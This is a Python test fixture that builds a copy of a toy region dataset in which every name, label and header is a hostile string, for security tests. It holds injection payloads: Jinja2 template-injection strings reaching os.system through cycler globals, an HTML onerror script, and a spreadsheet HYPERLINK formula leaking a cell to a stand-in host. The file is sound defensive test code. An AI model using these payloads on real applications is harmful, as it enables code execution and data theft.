"""Hostile strings, and the toy region set rebuilt so that every string in it is one of them.

Used by ``tests/test_security.py`` and the browser test. Each string is something a region name, a
label or a title may legitimately contain, or an attack on one of the interpreters the text passes
through: Jinja2 (``{{``, ``{#``, ``{%``), matplotlib mathtext (``$``), a shell command run through a
template, HTML, and spreadsheet formulas.
"""

from __future__ import annotations

import csv
import json
import shutil
import tomllib
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import tomli_w

TOY = Path(__file__).resolve().parent / "data" / "toy"

#: The word in an RCE payload replaced by the path of a marker file the payload would create.
MARKER = "MARKER"

#: Hostile strings by readable id. ``MARKER`` in a string is replaced by a temporary path.
HOSTILE: dict[str, str] = {
    "jinja-expression": "Town {{7*7}}",
    "jinja-comment": "Area {#1 (north)",
    "jinja-statement": "Growth {% of total",
    "mathtext": "$x$ and $50k",
    "dollars": "Median income between $50k and $100k",
    "rce-expression": "{{ cycler.__init__.__globals__.os.system('touch MARKER') }}",
    "rce-statement": "{% set x = cycler.__init__.__globals__.os.system('touch MARKER') %}",
    "html": "</script><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://example.com/?leak="&A1,"x")',
}


def hostile(key: str, marker: Path) -> str:
    """The hostile string ``key`` with its marker path filled in."""
    return HOSTILE[key].replace(MARKER, str(marker))


@dataclass(frozen=True)
class HostileSet:
    """A copy of the toy set in which every string is built from ``text``."""

    folder: Path
    text: str
    ids: list[str]
    names: list[str]
    labels: dict[str, str]  # indicator column -> label
    pillar: str  # the extra pillar's name (a key, and a layer)
    long_table: str  # the long table's name

    @property
    def name(self) -> str:
        return self.text

    @property
    def title(self) -> str:
        return f"{self.text} title"

    def column(self, original: str) -> str:
        """The (hostile) column name that replaced a toy column."""
        return RENAMED.get(original, original).format(self.text.strip())


#: Toy columns renamed in the hostile set ({} is the hostile text).
RENAMED = {"GEOID": "{} id", "name": "{} name", "median_income": "{} median income", "median_age": "{} age"}


def build_hostile_set(root: Path, text: str) -> HostileSet:
    """Copy the toy set into ``root/<set>`` and make every string of it (manifest, ids, names, headers) hostile.

    Parameters
    ----------
    root : Path
        A temporary folder.
    text : str
        The hostile string.

    Returns
    -------
    HostileSet
    """
    folder = root / "hostile-set"
    shutil.copytree(TOY, folder)
    col = {k: v.format(text.strip()) for k, v in RENAMED.items()}  # a manifest strips the names it gives

    manifest: dict[str, Any] = tomllib.loads((TOY / "manifest.toml").read_text(encoding="utf-8"))
    rs = manifest["region_set"]
    rs.update(
        name=text,
        title=f"{text} title",
        description=f"{text} description",
        license=f"{text} licence",
        sources=[f"{text} source", f"second {text}"],
        vintage=f"{text} 2023",
        id_column=col["GEOID"],
        name_column=col["name"],
    )
    states = [f"{text.strip()} 01", f"{text.strip()} 02"]  # as read: cells lose the whitespace at their ends
    manifest["groups"]["state"] = {"label": f"{text} state", "values": states}
    pillar = f"{text.strip()} pillar"
    manifest["pillars"] = {pillar: {"label": f"{text} pillar label", "parent": "cluster_strength"}}
    indicators: dict[str, dict[str, Any]] = {}
    labels: dict[str, str] = {}
    for key, meta in manifest["indicators"].items():
        new = dict(meta)
        new.update(
            label=f"{text} {meta['label']}",
            unit=f"{text} {meta['unit']}",
            source=f"{text} source of {key}",
            vintage=f"{text} 2023",
            license=f"{text} licence",
            description=f"{text} description",
            table=f"{text} table",
        )
        name = col.get(key, key)
        indicators[name] = new
        labels[name] = new["label"]
    indicators[col["median_income"]]["pillar"] = pillar
    manifest["indicators"] = indicators
    manifest["long_tables"] = [
        {
            "name": text,
            "file": "long.csv",
            "id_column": col["GEOID"],
            "description": f"{text} long",
            "source": f"{text} long source",
        }
    ]
    (folder / "manifest.toml").write_text(tomli_w.dumps(manifest), encoding="utf-8")

    geo = json.loads((TOY / "regions.geojson").read_text(encoding="utf-8"))
    ids, names = [], []
    for feature in geo["features"]:
        props = feature["properties"]
        rid, name = f"{text} {props['GEOID']}", f"{text} {props['name']}"
        feature["properties"] = {col["GEOID"]: rid, col["name"]: name}
        ids.append(rid)
        names.append(name)
    (folder / "regions.geojson").write_text(json.dumps(geo), encoding="utf-8")

    with (TOY / "indicators.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    header = [col.get(h, h) for h in rows[0]]
    body = [[f"{text} {r[0]}", f"{text} {r[1]}", *r[2:]] for r in rows[1:]]
    _write_csv(folder / "indicators.csv", [header, *body])
    _write_csv(
        folder / "long.csv",
        [[col["GEOID"], f"{text} key", "jobs"], *([rid, f"{text} industry", "10"] for rid in ids)],
    )
    return HostileSet(folder, text, ids, names, labels, pillar, text)


def _write_csv(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
